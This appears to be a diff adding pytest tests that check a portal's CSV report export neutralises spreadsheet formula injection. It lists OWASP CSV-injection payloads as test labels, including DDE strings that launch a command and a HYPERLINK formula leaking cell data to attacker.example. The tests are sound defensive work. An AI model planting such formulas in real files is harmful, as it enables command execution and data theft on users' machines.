@@ -66,3 +66,53 @@ def test_a_viewer_downloads_and_an_outsider_gets_404(bob_client, finished, charl
 def test_an_active_run_offers_no_exports_yet(alice_client, run):
     html = alice_client.get(run.get_absolute_url()).content.decode()
     assert 'id="exports"' not in html
+
+
+# OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), as page labels
+# from an imported JTL, a HAR or a step name (issue 30, item 3).
+OWASP_PAYLOADS = [
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!E1",
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "\t=1+2",
+    "\r=1+2",
+    "Search\r=1+2",  # a lone carriage return must not end the row and start a new one with a formula
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers(finished):
+    import csv
+    import io
+
+    # given: pages labelled with the OWASP payloads, and negative figures (as a clock skew can give)
+    pages = finished.summary["pages"]
+    template = pages[0]
+    finished.summary["pages"] = [
+        {**template, "label": payload, "apd_ms": -1.5, "pages": -3} for payload in OWASP_PAYLOADS
+    ] + [{**template, "label": "-12.5", "apd_ms": 12.5}]
+
+    # when
+    rows = list(csv.DictReader(io.StringIO(reports.pages_csv(finished), newline="")))
+
+    # then: each payload is read back as text behind a quote, whole (no cell split off), never as a formula
+    labels = [row["label"] for row in rows]
+    assert labels[:-1] == [payload if payload.startswith("Search") else "'" + payload for payload in OWASP_PAYLOADS]
+    assert not any(label.startswith(("=", "+", "-", "@", "\t", "\r")) for label in labels[:-1])
+    # numbers are numbers: negative figures and a label that is a plain number are written as they are
+    assert [(row["apd_ms"], row["pages"]) for row in rows[:-1]] == [("-1.5", "-3")] * len(OWASP_PAYLOADS)
+    assert labels[-1] == "-12.5"
+
+
+def test_the_csv_cell_rule():
+    from portal.csvsafe import cell
+
+    numbers = [-1, -2.5, 0, None, "-3", "+4.5", "-1e-3", ".5"]
+    assert [cell(v) for v in numbers] == numbers
+    assert [cell(v) for v in ("=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "-", "- 3")] == [
+        "'=A1", "'+A1", "'-A1", "'@A1", "'\tA1", "'\rA1", "'-", "'- 3"
+    ]  # fmt: skip
+    assert [cell(v) for v in ("Home", "a=b", " =A1", "Search: -x")] == ["Home", "a=b", " =A1", "Search: -x"]
